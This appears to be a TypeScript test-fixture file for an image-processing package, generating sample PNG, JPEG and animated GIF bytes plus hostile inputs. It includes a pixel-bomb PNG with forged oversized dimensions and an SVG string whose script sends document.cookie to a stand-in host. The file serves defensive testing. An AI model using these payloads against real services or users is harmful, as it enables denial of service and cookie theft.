/**
 * Image bytes for the tests, made with sharp or crafted byte by byte (pixel bombs, animated GIFs,
 * hostile SVG). Not part of the package's API.
 */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

export function solidPng(width: number, height: number, colour = '#c03'): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: colour } }).png().toBuffer();
}

export function solidJpeg(width: number, height: number, colour = '#3c0'): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: colour } }).jpeg().toBuffer();
}

/** A PNG of a few hundred bytes whose IHDR claims `width` x `height` (CRCs correct, so decoders believe it). */
export function pixelBombPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(4096))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** A 1x1 GIF89a that loops through `frames` frames (black, white, black...). */
export function animatedGif(frames: number): Buffer {
  const parts = [
    Buffer.from('GIF89a', 'latin1'),
    Buffer.from([0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00]), // 1x1, 2-colour global table
    Buffer.from([0x00, 0x00, 0x00, 0xff, 0xff, 0xff]),
    Buffer.from([0x21, 0xff, 0x0b, ...Buffer.from('NETSCAPE2.0', 'latin1'), 0x03, 0x01, 0x00, 0x00, 0x00]),
  ];
  for (let frame = 0; frame < frames; frame += 1) {
    parts.push(Buffer.from([0x21, 0xf9, 0x04, 0x00, 0x0a, 0x00, 0x00, 0x00])); // graphic control: 100 ms
    parts.push(Buffer.from([0x2c, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00])); // descriptor
    parts.push(Buffer.from([0x02, 0x02, frame % 2 === 0 ? 0x44 : 0x4c, 0x01, 0x00])); // LZW: one pixel
  }
  parts.push(Buffer.from([0x3b]));
  return Buffer.concat(parts);
}

export const svgWithScript = [
  '\uFEFF<?xml version="1.0" encoding="UTF-8"?>',
  '<!-- exported by a drawing tool -->',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [ <!ENTITY x "y"> ]>',
  '<svg xmlns="http://www.w3.org/2000/svg" width="320px" height="80">',
  '<script>fetch("http://collector.test/?c=" + document.cookie)</script>',
  '<text x="10" y="40">(702) 555-0147</text>',
  '</svg>',
].join('\n');
